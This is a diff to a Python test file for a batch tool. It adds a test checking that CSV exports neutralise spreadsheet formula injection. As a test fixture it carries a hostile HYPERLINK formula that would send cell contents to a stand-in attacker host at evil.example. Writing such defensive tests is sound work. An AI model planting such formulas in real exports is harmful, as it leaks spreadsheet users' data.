@@ -1,12 +1,17 @@
-"""Reading a batch's inputs: JSONL rows and CSV rows, and clear refusals of bad rows."""
+"""Reading a batch's inputs (JSONL rows and CSV rows, clear refusals of bad rows) and writing
+its results."""
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 from pathlib import Path
 
 import pytest
 
 from core.batch.inputs import BatchInputError, BatchItem, read_inputs
+from core.batch.results import ItemResult, results_csv, results_jsonl
 
 
 def write(folder: Path, name: str, text: str) -> Path:
@@ -79,3 +84,19 @@ def test_an_empty_or_unreadable_file_is_refused(tmp_path: Path) -> None:
     binary.write_bytes(b'{"args": ["\xff"]}\n')
     with pytest.raises(BatchInputError, match="cannot read"):
         read_inputs(binary)
+
+
+def test_a_csv_export_never_hands_a_spreadsheet_a_formula() -> None:
+    hostile = ItemResult(
+        item=1,
+        status="ok",
+        args=["-1", "plain"],
+        params={},
+        run_id="r1",
+        output='=HYPERLINK("http://evil.example/?"&A1,"click")',
+        error="@SUM(1)",
+    )
+    rows = list(csv.reader(io.StringIO(results_csv([hostile]))))
+    assert rows[1][2:4] == ["'-1", "plain"]
+    assert rows[1][-2:] == ["'" + hostile.output, "'@SUM(1)"]
+    assert json.loads(results_jsonl([hostile]))["output"] == hostile.output  # data as it was
